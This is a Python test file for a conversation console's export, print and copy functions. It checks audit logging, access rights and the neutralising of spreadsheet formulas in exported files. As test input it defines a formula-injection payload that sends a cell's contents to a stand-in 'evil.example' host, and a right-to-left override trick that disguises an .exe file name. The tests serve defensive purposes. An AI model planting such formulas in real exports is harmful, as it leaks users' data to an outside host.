"""Copies of conversations: on the clipboard, on paper, in files; each a look of its own, and none of them dangerous."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxy.console.talks.export import no_formula
from storage.interfaces import AuditTag, Right, Sender
from tests.console import samples
from tests.console.browsing import Browsing
from tests.console.samples import EMAIL, NAME
from tests.console.stage import Said, Stage
from tests.console.test_talks import REASON, json_of, with_token

FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


async def test_copying_is_written_down_first(stage: Stage, aino: Browsing) -> None:
    """How many values, behind which pseudonyms, what for; without a reason or a name nothing is allowed."""
    talk = await samples.talk(stage)
    path = f"/conversations/{talk.id}/copied.json"
    form = await with_token(aino, talk.id, pseudonyms="EMAIL_1 NIMI_1", **REASON)
    page, told = await json_of(aino, path, form)
    assert (page.status, told) == (200, {"noted": True})
    entry = (await stage.audit.page(limit=1))[0]
    assert (entry.tag, entry.conversations) == (AuditTag.CONSOLE_CONVERSATION_COPY, (talk.id,))
    assert (entry.detail, entry.case) == ({"count": 2, "pseudonyms": "EMAIL_1, NIMI_1"}, "2026-17")
    for change in ({"pseudonyms": ""}, {"pseudonyms": EMAIL}, {"case": ""}, {"pseudonyms": "EMAIL_1 " * 201}):
        page, _ = await json_of(aino, path, {**form, **change})
        assert page.status == 422
    assert (await stage.audit.page(limit=1))[0].seq == entry.seq


async def test_a_page_for_paper_is_a_look_of_its_own(stage: Stage, aino: Browsing) -> None:
    """From the opened page with its reason; a reload prints nothing."""
    talk = await samples.talk(stage)
    opened = await aino.open_conversation(talk.id, words="Asiakas pyysi paperilla")
    path = f"/conversations/{talk.id}/print"
    form = opened.hidden(path)
    page = await aino.post(path, form)
    assert 'class="is-opened printing"' in page.body
    assert EMAIL in page.text
    last = (await stage.audit.page(limit=1))[0]
    assert (last.tag, last.case) == (AuditTag.CONSOLE_CONVERSATION_PRINT, "2026-17")
    assert (await aino.post(path, form)).status == 303


@pytest.mark.parametrize("form", ["json", "text"])
async def test_a_copy_is_a_look_with_a_reason(stage: Stage, aino: Browsing, form: str) -> None:
    """Redacted or with values, as its scope in the audit says; a file to keep, of a name that tells nothing."""
    talk = await samples.talk(stage)
    path = f"/conversations/{talk.id}/export"
    fields = await with_token(aino, talk.id, format=form, **REASON)
    redacted, revealed = await aino.post(path, fields), await aino.post(f"{path}/revealed", fields)
    assert "[EMAIL_1]" in redacted.body
    assert EMAIL not in redacted.body
    assert EMAIL in revealed.body
    assert NAME in revealed.body
    assert "[HETU]" in revealed.body
    for file in (redacted, revealed):
        assert file.header("Content-Disposition").startswith(f'attachment; filename="verho-{talk.id[:8]}.')
        assert file.header("Cache-Control") == "no-store"
    if form == "json":
        document = json.loads(revealed.body)
        assert document["with_personal_data"] is True
        assert document["copied"]["case"] == "2026-17"
        assert len(document["messages"]) == 8
    last, first = await stage.audit.page(limit=2)
    assert {last.tag, first.tag} == {AuditTag.CONSOLE_CONVERSATION_EXPORT}
    assert (first.detail["scope"], last.detail["scope"], last.case, first.case) == (
        "transcript", "identity", "2026-17", "2026-17",
    )  # fmt: skip


async def test_no_file_without_a_reason_or_the_right(stage: Stage, aino: Browsing) -> None:
    """The page comes back with what was typed; who may only read gets pseudonyms and nothing more."""
    talk = await samples.talk(stage)
    path = f"/conversations/{talk.id}/export"
    fields = await with_token(aino, talk.id, format="exe", category="service", case="", words="Pyydetty kirjeessä")
    page = await aino.post(f"{path}/revealed", fields)
    assert page.status == 422
    assert "Valitse tiedostomuoto." in page.text
    assert "Pyydetty kirjeessä" in page.body
    assert AuditTag.CONSOLE_CONVERSATION_EXPORT not in await stage.tags()
    person = await stage.accounts.by_name("aino")
    assert person is not None
    await stage.regrant(person.id, frozenset({Right.READ_REDACTED}))
    fields = await with_token(aino, talk.id, format="text", **REASON)
    assert (await aino.post(path, fields)).status == 200
    assert (await aino.post(f"{path}/revealed", fields)).status == 403


async def test_no_cell_is_a_formula(stage: Stage, aino: Browsing) -> None:
    """Formulas, directions and markup of visitors come out as plain words in either file."""
    said = [
        Said(Sender.VISITOR, f"{FORMULA}\n+1;=2\t@SUM(A1)\n-3 \u202egnp.exe", author=FORMULA),
        Said(Sender.VISITOR, "", fields=((FORMULA, f"\t{FORMULA}\r\n=1"),)),
    ]
    bad = await stage.converse(said, values={"[NIMI_1]": ("PERSON", FORMULA)})
    for form in ("text", "json"):
        fields = await with_token(aino, bad.id, format=form, **REASON)
        file = await aino.post(f"/conversations/{bad.id}/export/revealed", fields)
        assert file.status == 200
        assert "\u202e" not in file.body
        if form == "text":
            assert not re.search(r"(?m)(?:^|[;,\t|])\s*[=+@-]", file.body)
            assert "HYPERLINK" in file.body


@given(st.text(alphabet="=+-@;,\t |ab1\n'\"\u00a0"))
def test_no_cell_of_any_text_begins_as_a_formula(text: str) -> None:
    """Whatever a spreadsheet would part it by."""
    for cell in re.split(r"[\n;,\t|]", no_formula(text)):
        assert not cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@")), repr(text)
